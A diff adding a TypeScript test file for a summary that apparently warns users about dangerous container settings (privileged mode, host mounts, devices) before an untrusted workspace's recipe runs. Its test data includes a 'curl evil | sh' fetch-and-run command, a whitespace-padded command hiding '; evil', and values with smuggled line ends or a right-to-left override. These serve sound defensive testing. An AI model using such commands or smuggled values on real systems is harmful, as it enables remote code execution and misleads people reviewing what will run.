@@ -1,0 +1,131 @@
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { recipeSummary, sourcesInside } from '../../../../src/commands/recipes/recipeSummary.ts';
+import { isDisplayedWhole } from '../../../../src/plainText.ts';
+import type { CreateArguments } from '../../../../src/engine/options/createSpec.ts';
+import { english } from '../../../../src/l10n.ts';
+
+const isInside = (source: string): boolean => source.startsWith('/work/');
+
+function lines(args: Partial<CreateArguments>): readonly string[] | undefined {
+  return recipeSummary({ image: 'busybox', ...args }, isInside, english);
+}
+
+describe('the question before the recipe of an untrusted workspace', () => {
+  it('says all that reaches out of the container, the dangerous first', () => {
+    const shown = lines({
+      cmd: ['sh', '-c', 'curl evil | sh'],
+      entrypoint: ['/bin/x'],
+      user: '0',
+      ports: ['0.0.0.0:22:22', '80'],
+      publishAll: true,
+      restart: 'always',
+      network: 'host',
+      privileged: true,
+      mounts: ['/work/a:/a', '/:/host', 'db:/db'],
+      devices: ['/dev/sda'],
+      capAdd: ['SYS_ADMIN'],
+      securityOpt: ['label=disable'],
+      env: ['TOKEN=x'],
+      labels: { 'io.gantry.temporary': '1' },
+      dns: ['10.0.0.1'],
+      extraHosts: ['a:10.0.0.1'],
+      start: true,
+      autoRemove: true,
+    });
+    assert.deepEqual(shown, [
+      'Privileged: full access to the host',
+      'Network: host',
+      'Device: /dev/sda',
+      'Capability: SYS_ADMIN',
+      'Security option: label=disable',
+      'Mount from outside the folder: /:/host',
+      'Volume: db:/db',
+      'Image: busybox',
+      'Entrypoint: "/bin/x"',
+      'Command: "sh" "-c" "curl evil | sh"',
+      'User: 0',
+      'Published ports: 0.0.0.0:22:22, 80',
+      'Publishes all exposed ports',
+      'Restart policy: always',
+      'Mount: /work/a:/a',
+      'Starts at once',
+      'Removed when it exits',
+      'Variables: TOKEN',
+      'Labels: io.gantry.temporary',
+      'and 2 more settings',
+    ]);
+  });
+
+  it('does not let harmless mounts hide others', () => {
+    const harmless = Array.from({ length: 60 }, (_, at) => `/work/${'x'.repeat(90)}${at}:/m/${at}`);
+    const shown = lines({ mounts: [...harmless, '/:/host'], privileged: true });
+    assert.ok(shown);
+    assert.deepEqual(shown.slice(0, 2), [
+      'Privileged: full access to the host',
+      'Mount from outside the folder: /:/host',
+    ]);
+    assert.equal(shown.at(-1), 'and 57 more mounts of this folder');
+    assert.ok(isDisplayedWhole(shown.join('\n')));
+  });
+
+  it('does not let long names hide anything', () => {
+    const env = Array.from({ length: 300 }, (_, at) => `${'N'.repeat(4200)}${at}=x`);
+    const labels = Object.fromEntries(env.map((name) => [name, 'x']));
+    const cmd = ['sh', '-c', `true${' '.repeat(5000)}\n\n\n; evil`];
+    const shown = lines({ env, labels, cmd, privileged: true });
+    assert.ok(shown);
+    assert.equal(shown[0], 'Privileged: full access to the host');
+    assert.ok(isDisplayedWhole(shown.join('\n')));
+  });
+
+  const refused: Readonly<Record<string, Partial<CreateArguments>>> = {
+    'more mounts from outside than fit': {
+      mounts: Array.from({ length: 30 }, (_, at) => `/etc/${at}:/m/${at}`),
+    },
+    'more volumes than fit': { mounts: Array.from({ length: 30 }, (_, at) => `vol${at}:/m/${at}`) },
+    'a mount that is longer than a line': { mounts: [`/etc/${'x'.repeat(200)}:/x`] },
+    'a mount with line ends': { mounts: [`/etc${'\n'.repeat(3000)}:/x`] },
+    'a mount that is not shown as it is': { mounts: ['/etc\u202e/x:/x'] },
+    'more ports than fit': { ports: Array.from({ length: 60 }, (_, at) => `${8000 + at}:80`) },
+    'a user with a line end': { user: '0\nNothing else' },
+    'a network with a line end': { network: 'a\nb' },
+  };
+  for (const [what, args] of Object.entries(refused)) {
+    it(`is not asked of ${what}`, () => {
+      assert.equal(lines(args), undefined);
+    });
+  }
+
+  describe('takes a mount for one from the folder', () => {
+    let root: string;
+    let folder: string;
+    beforeEach(() => {
+      root = mkdtempSync(join(tmpdir(), 'gantry-recipe-'));
+      folder = join(root, 'repo');
+      mkdirSync(join(folder, 'data'), { recursive: true });
+      symlinkSync('/', join(folder, 'harmless'));
+    });
+    afterEach(() => {
+      rmSync(root, { recursive: true, force: true });
+    });
+
+    it('only if it really leads there', async () => {
+      const sources = [
+        'data',
+        'new/one',
+        '../other',
+        'harmless',
+        'harmless/etc',
+        'harmless/none/x',
+      ];
+      const mounts = sources.map((source) => `${join(folder, source)}:/x`);
+      const inside = await sourcesInside([...mounts, `${folder}/a/../..:/x`], folder, english);
+      assert.deepEqual([...inside], [join(folder, 'data'), join(folder, 'new/one')]);
+      assert.equal((await sourcesInside(['/etc:/x'], '/', english)).size, 0);
+      assert.equal((await sourcesInside(['/etc:/x'], undefined, english)).size, 0);
+    });
+  });
+});
